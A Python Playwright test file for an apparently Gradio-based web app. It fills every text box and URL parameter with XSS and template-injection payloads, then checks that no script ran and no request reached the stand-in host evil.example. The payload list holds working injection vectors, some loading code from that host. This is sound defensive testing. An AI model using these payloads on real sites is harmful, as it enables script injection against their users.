"""Untrusted text is text: payloads through every box of the page and through its links run nothing and ask nobody."""

import time
from urllib.parse import urlencode, urlsplit

import pytest
from browser import TITLE, open_tab

pytestmark = pytest.mark.browser
PAYLOADS = [
    '<img src=x onerror="hit(1)">',
    "<script>hit(2)</script>",
    '"><svg/onload=hit(3)>',
    "'-hit(4)-'${hit(4)}{{hit(4)}}",
    "javascript:hit(5)",
    '<iframe srcdoc="<script>parent.hit(6)</script>"></iframe>',
    "</style></script></textarea><script src=//evil.example/7></script>",
    '<a href="javascript:hit(8)" autofocus onfocus=hit(8)>x</a>',
    "[x](javascript:hit(9)) ![y](http://evil.example/9.png)",
    '<style>@import "//evil.example/10";</style><link rel=stylesheet href=//evil.example/10><base href=//evil.example/>',
]
VIEWS = [
    ("Write",), ("Inside", "Letters"), ("Inside", "Neurons"), ("Inside", "RNN vs LSTM"), ("Check",),
    ("Words", "Map"), ("Words", "Analogies"), ("Words", "Bias"),
]  # fmt: skip
BOXES = "textarea:visible, input[type=text]:visible, input:not([type]):visible"
SILENCE = 5  # seconds
INJECTED = "script[src*=evil], link[href*=evil], base[href*=evil], iframe[srcdoc], a[href^=javascript], [onerror], [onfocus], [onload]"


class Watch:
    """What a page's scripts did that no text may make them do, and whether it waits for answers."""

    def __init__(self, page):
        self.hits, self.waiting, self.heard = [], set(), time.monotonic()
        network = page.context.new_cdp_session(page)
        network.send("Network.enable")
        network.on("Network.dataReceived", self._hear)
        page.expose_function("hit", lambda text: self.hits.append(text))
        page.on("dialog", lambda dialog: (self.hits.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: self.hits.append(str(error)))
        page.on("console", self._note_error)
        page.on("request", self._note)
        for event in ("requestfinished", "requestfailed"):
            page.on(event, lambda request: self.waiting.discard(request))

    def _hear(self, _):
        self.heard = time.monotonic()

    def _note_error(self, message):
        # Stop before gradio has the number of the call asks it to cancel none, which it refuses.
        if message.type == "error" and not message.location["url"].endswith(("/cancel", "/reset")):
            self.hits.append((message.text, message.location["url"]))

    def _note(self, request):
        if "evil.example" in urlsplit(request.url).netloc:  # not in the query of a link of ours
            self.hits.append(request.url)
        if "/queue/data" in request.url or "component_server" in request.url:
            self.waiting.add(request)
            self.heard = time.monotonic()

    def settle(self, page) -> None:
        """Waits until every answer has come, and nothing was asked for a moment.

        Stop closes gradio's stream of answers. It forgets then which calls were running, and holds the next stream open for
        them, with a sign of life every 15 seconds: a stream on which nothing has come for 5 seconds is not waited for.
        """
        until = time.monotonic() + 60
        quiet = 0
        while quiet < 2:
            page.wait_for_timeout(200)
            quiet = 0 if self.waiting and time.monotonic() - self.heard < SILENCE else quiet + 1
            assert time.monotonic() < until, [request.url for request in self.waiting]

    def assert_nothing_ran(self, page) -> None:
        assert self.hits == []
        assert page.locator(INJECTED).count() == 0 and page.title() == TITLE


@pytest.fixture
def own_page(browser):
    """Opens pages of their own, each with a watch on it."""
    opened = []

    def open_page():
        opened.append(browser.new_page())
        opened[-1].set_default_timeout(30_000)
        return opened[-1], Watch(opened[-1])

    yield open_page
    for page in opened:
        page.close()


def test_markup_in_every_box_stays_text(own_page, app_url, size):
    for text in size(["\n".join(PAYLOADS)], ["\n".join(PAYLOADS), PAYLOADS[0].replace(" ", "/")]):
        fill_every_box(*own_page(), app_url, text)


def fill_every_box(page, watch, app_url, text):
    """Types a text into every box of every view, and clicks every button."""
    page.goto(app_url)
    page.get_by_role("tab", name="Write", exact=True).wait_for()
    filled = 0
    for names in VIEWS:
        open_tab(page, *names)
        page.wait_for_timeout(300)
        closed = page.locator("button.label-wrap:visible:not(.open)")
        while closed.count():  # one that opens is none of them any more
            closed.first.click()
        watch.settle(page)
        for box in page.locator(BOXES).all():
            if box.is_visible() and box.is_editable():
                box.fill(text)
                box.press("Enter")
                filled += 1
        for button in page.locator("button.primary:visible, button.secondary:visible").all():
            if button.is_visible() and button.is_enabled():
                button.click()
        watch.settle(page)
        watch.assert_nothing_ran(page)
    assert filled > 20


def test_markup_in_a_link_stays_text(own_page, app_url, size):
    names = ("text", "artist", "model", "t", "seed", "len", "tab", "view", "words", PAYLOADS[0])
    for first in size([0, 5], range(len(PAYLOADS))):
        page, watch = own_page()
        values = {name: PAYLOADS[(first + number) % len(PAYLOADS)] for number, name in enumerate(names)}
        page.goto(f"{app_url}/?{urlencode(values)}#{PAYLOADS[first]}")
        page.get_by_role("tab", name="Write", exact=True).wait_for()
        watch.settle(page)
        watch.assert_nothing_ran(page)
